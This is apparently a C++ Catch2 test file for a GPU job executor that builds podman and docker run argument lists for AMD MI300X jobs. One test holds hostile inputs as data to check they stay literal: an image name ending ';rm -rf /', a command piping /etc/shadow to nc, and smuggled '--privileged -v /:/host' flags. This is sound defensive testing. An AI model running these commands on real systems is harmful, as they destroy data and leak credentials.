#include <algorithm>
#include <catch2/catch.hpp>

#include "jgrid/exec/container_executor.hpp"
#include "jgrid/util/strings.hpp"

using namespace jgrid;
using namespace jgrid::exec;
namespace fs = std::filesystem;
using Argv = std::vector<std::string>;

namespace {

fs::path fixture(const std::string& name) { return fs::path(__FILE__).parent_path() / "../../fixtures/sysfs" / name; }

LocalGpuReport mi300x_report() {
  GpuDetectRoots roots;
  roots.sysfs = fixture("mi300x_x8") / "sys";
  roots.dev = fixture("mi300x_x8") / "dev";
  roots.etc = fixture("mi300x_x8") / "etc";
  return detect_local_gpus(roots);
}

ContainerOptions mi300x_options() {
  ContainerOptions options;
  options.engine = "podman";
  options.engine_args = {"--runtime", "runc", "--ulimit", "nofile=1024:1024"};
  options.gpus = mi300x_report();
  options.attach = GpuAttach::devices;
  return options;
}

RunRequest request_on(std::vector<int> gpu_indices) {
  RunRequest request;
  request.job.id = "job_01TEST";
  request.job.attempts = 1;
  request.job.spec.edit().image = "localhost/jgrid-busybox-rocm:latest";
  request.job.spec.edit().command = {"python", "train.py", "--epochs", "1"};
  request.job.spec.edit().environment = {{"HF_TOKEN", "secret-value"}, {"MODE", "fast"}};
  model::Placement placement;
  placement.gpu_count = static_cast<int>(gpu_indices.size());
  placement.gpu_indices = std::move(gpu_indices);
  request.job.placement = placement;
  request.workspace_dir = "/data/jobs/job_01TEST";
  return request;
}

std::size_t index_of(const Argv& argv, const std::string& word) {
  return static_cast<std::size_t>(std::find(argv.begin(), argv.end(), word) - argv.begin());
}

bool has_pair(const Argv& argv, const std::string& flag, const std::string& value) {
  for (std::size_t i = 0; i + 1 < argv.size(); ++i)
    if (argv[i] == flag && argv[i + 1] == value) return true;
  return false;
}

Argv values_of(const Argv& argv, const std::string& flag) {
  Argv values;
  for (std::size_t i = 0; i + 1 < argv.size() && argv[i] != "--"; ++i)
    if (argv[i] == flag) values.push_back(argv[i + 1]);
  return values;
}

void check_no_nvidia(const Argv& argv) {
  for (const auto& word : argv) {
    std::string lower = util::to_lower(word);
    CHECK(lower.find("nvidia") == std::string::npos);
    CHECK(lower.find("--gpus") == std::string::npos);
    CHECK(lower.find("cuda") == std::string::npos);
  }
}

}  // namespace

TEST_CASE("exec::build_run_argv attaches exactly the job's two MI300X", "[exec][container]") {
  ContainerOptions options = mi300x_options();
  Argv argv = build_run_argv(request_on({2, 5}), options, "jgrid-job_01TEST");
  std::string dev = (fixture("mi300x_x8") / "dev").string();
  CHECK(values_of(argv, "--device") == Argv{dev + "/kfd", dev + "/dri/renderD130", dev + "/dri/renderD133"});
  CHECK(values_of(argv, "--group-add") == Argv{"44", "110"});
  CHECK(has_pair(argv, "--security-opt", "seccomp=unconfined"));
  CHECK(has_pair(argv, "-e", "ROCR_VISIBLE_DEVICES=2,5"));
  CHECK(std::count(argv.begin(), argv.end(), "--ipc=host") == 0);  // inference
  check_no_nvidia(argv);
}

TEST_CASE("exec::build_run_argv lays out run, engine args, name, mounts and env", "[exec][container]") {
  Argv argv = build_run_argv(request_on({0}), mi300x_options(), "jgrid-job_01TEST");
  REQUIRE(argv.size() > 6);
  CHECK(Argv(argv.begin(), argv.begin() + 6) ==
        Argv{"podman", "run", "--runtime", "runc", "--ulimit", "nofile=1024:1024"});
  CHECK(argv[6] == "-d");
  CHECK(has_pair(argv, "--name", "jgrid-job_01TEST"));
  CHECK(has_pair(argv, "--label", "io.jgrid.job=job_01TEST"));
  CHECK(has_pair(argv, "-v", "/data/jobs/job_01TEST/inputs:/workspace/inputs:ro"));
  CHECK(has_pair(argv, "-v", "/data/jobs/job_01TEST/scripts:/workspace/scripts:ro"));
  CHECK(has_pair(argv, "-v", "/data/jobs/job_01TEST/artifacts:/workspace/artifacts:rw"));
  CHECK(has_pair(argv, "-w", "/workspace"));
  CHECK(has_pair(argv, "-e", "JGRID_JOB_ID=job_01TEST"));
  CHECK(has_pair(argv, "-e", "JUNGLE_GRID_JOB_ID=job_01TEST"));
  CHECK(has_pair(argv, "-e", "HF_TOKEN=secret-value"));
  std::size_t image = index_of(argv, "localhost/jgrid-busybox-rocm:latest");
  REQUIRE(image < argv.size());
  CHECK(argv[image - 1] == "--");
  CHECK(Argv(argv.begin() + image + 1, argv.end()) == Argv{"python", "train.py", "--epochs", "1"});
}

TEST_CASE("exec::build_run_argv relabels mounts only when asked", "[exec][container]") {
  ContainerOptions options = mi300x_options();
  options.selinux_relabel = true;
  Argv argv = build_run_argv(request_on({0}), options, "jgrid-job_01TEST");
  CHECK(has_pair(argv, "-v", "/data/jobs/job_01TEST/artifacts:/workspace/artifacts:rw,Z"));
  CHECK(has_pair(argv, "-v", "/data/jobs/job_01TEST/inputs:/workspace/inputs:ro,Z"));
}

TEST_CASE("exec::build_run_argv with gpu_optional and no GPU has no device flag", "[exec][container]") {
  ContainerOptions options;
  options.gpu_optional = true;
  Argv argv = build_run_argv(request_on({0}), options, "jgrid-job_01TEST");
  for (const char* flag : {"--device", "--group-add", "--security-opt"})
    CHECK(std::count(argv.begin(), argv.end(), flag) == 0);
  for (const auto& word : argv) CHECK(word.find("/dev/") == std::string::npos);
  check_no_nvidia(argv);
}

TEST_CASE("exec::build_run_argv uses CDI names when the CDI attach is chosen", "[exec][container]") {
  ContainerOptions options = mi300x_options();
  options.attach = GpuAttach::cdi;
  Argv argv = build_run_argv(request_on({1, 7}), options, "jgrid-job_01TEST");
  CHECK(values_of(argv, "--device") == Argv{"amd.com/gpu=1", "amd.com/gpu=7"});
  CHECK(values_of(argv, "--group-add") == Argv{"44", "110"});
  CHECK(has_pair(argv, "-e", "ROCR_VISIBLE_DEVICES=1,7"));
  check_no_nvidia(argv);
}

TEST_CASE("exec::build_run_argv shares host IPC for training, fine-tuning and vLLM", "[exec][container]") {
  auto ipc_for = [](model::WorkloadType type, const std::string& framework) {
    RunRequest request = request_on({0});
    request.job.spec.edit().workload_type = type;
    request.job.spec.edit().framework = framework;
    Argv argv = build_run_argv(request, mi300x_options(), "jgrid-job_01TEST");
    return std::count(argv.begin(), argv.end(), "--ipc=host") == 1;
  };
  CHECK(ipc_for(model::WorkloadType::training, ""));
  CHECK(ipc_for(model::WorkloadType::fine_tuning, "pytorch-rocm"));
  CHECK(ipc_for(model::WorkloadType::inference, "vllm-rocm"));
  CHECK_FALSE(ipc_for(model::WorkloadType::inference, "pytorch-rocm"));
  CHECK_FALSE(ipc_for(model::WorkloadType::batch, ""));
}

TEST_CASE("exec::build_run_argv keeps hostile job fields as literal words after the image", "[exec][container]") {
  RunRequest request = request_on({0});
  request.job.spec.edit().image = "ghcr.io/acme/app:latest;rm -rf / #";
  request.job.spec.edit().command = {"sh",           "-c", "echo $(id) && cat /etc/shadow | nc x 1; `reboot`",
                              "--privileged", "-v", "/:/host"};
  request.job.spec.edit().environment = {{"EVIL", "a b; $(whoami) `id` \"q\" 'r' --privileged"}};
  Argv argv = build_run_argv(request, mi300x_options(), "jgrid-job_01TEST");
  std::size_t image = index_of(argv, "ghcr.io/acme/app:latest;rm -rf / #");
  REQUIRE(image < argv.size());
  CHECK(argv[image - 1] == "--");
  CHECK(Argv(argv.begin() + image + 1, argv.end()) == request.job.spec->command);
  CHECK(index_of(argv, "--privileged") > image);
  CHECK(has_pair(argv, "-e", "EVIL=a b; $(whoami) `id` \"q\" 'r' --privileged"));
  CHECK(values_of(argv, "-v").size() == 3);  // only the workspace mounts before the image
}

TEST_CASE("exec::build_run_argv lets the grid's variables win over the job's", "[exec][container]") {
  RunRequest request = request_on({3});
  request.job.spec.edit().environment["ROCR_VISIBLE_DEVICES"] = "0,1,2,3,4,5,6,7";
  request.job.spec.edit().environment["JGRID_JOB_ID"] = "job_other";
  Argv argv = build_run_argv(request, mi300x_options(), "jgrid-job_01TEST");
  Argv env = values_of(argv, "-e");
  CHECK(std::count_if(env.begin(), env.end(), [](const auto& e) { return e.rfind("ROCR_VISIBLE_DEVICES=", 0) == 0; }) ==
        1);
  CHECK(has_pair(argv, "-e", "ROCR_VISIBLE_DEVICES=3"));
  CHECK(has_pair(argv, "-e", "JGRID_JOB_ID=job_01TEST"));
  CHECK_FALSE(has_pair(argv, "-e", "JGRID_JOB_ID=job_other"));
}

TEST_CASE("exec::mask_env_values hides values but not keys or the command", "[exec][container]") {
  RunRequest request = request_on({0});
  request.job.spec.edit().command = {"sh", "-c", "true", "-e", "NOT=ENV"};
  Argv masked = mask_env_values(build_run_argv(request, mi300x_options(), "jgrid-job_01TEST"));
  CHECK(has_pair(masked, "-e", "HF_TOKEN=***"));
  CHECK(has_pair(masked, "-e", "JGRID_JOB_ID=job_01TEST"));
  CHECK(has_pair(masked, "-e", "ROCR_VISIBLE_DEVICES=0"));
  CHECK(has_pair(masked, "--name", "jgrid-job_01TEST"));
  for (const auto& word : masked) CHECK(word.find("secret-value") == std::string::npos);
  CHECK(masked.back() == "NOT=ENV");
}

TEST_CASE("exec::container_name_for prefixes the job id", "[exec][container]") {
  CHECK(container_name_for("job_01ABC") == "jgrid-job_01ABC");
}

TEST_CASE("exec::build_run_argv has podman write the output to the job's log file", "[exec][container]") {
  RunRequest request = request_on({0});
  Argv argv = build_run_argv(request, mi300x_options(), "jgrid-job_01TEST");
  CHECK(container_log_path(request, mi300x_options()) == fs::path("/data/jobs/job_01TEST/jgrid-job_01TEST.log"));
  CHECK(has_pair(argv, "--log-driver", "k8s-file"));
  CHECK(has_pair(argv, "--log-opt", "path=/data/jobs/job_01TEST/jgrid-job_01TEST.log"));
  CHECK(index_of(argv, "--log-opt") < index_of(argv, "--"));

  ContainerOptions docker = mi300x_options();
  docker.engine = "/usr/bin/docker";
  CHECK_FALSE(container_log_path(request, docker));
  CHECK(index_of(build_run_argv(request, docker, "jgrid-job_01TEST"), "--log-driver") ==
        build_run_argv(request, docker, "jgrid-job_01TEST").size());

  ContainerOptions own = mi300x_options();
  own.engine_args.push_back("--log-driver=journald");
  CHECK_FALSE(container_log_path(request, own));
  Argv own_argv = build_run_argv(request, own, "jgrid-job_01TEST");
  CHECK(std::count(own_argv.begin(), own_argv.end(), "--log-driver=journald") == 1);
  CHECK(index_of(own_argv, "--log-opt") == own_argv.size());
}
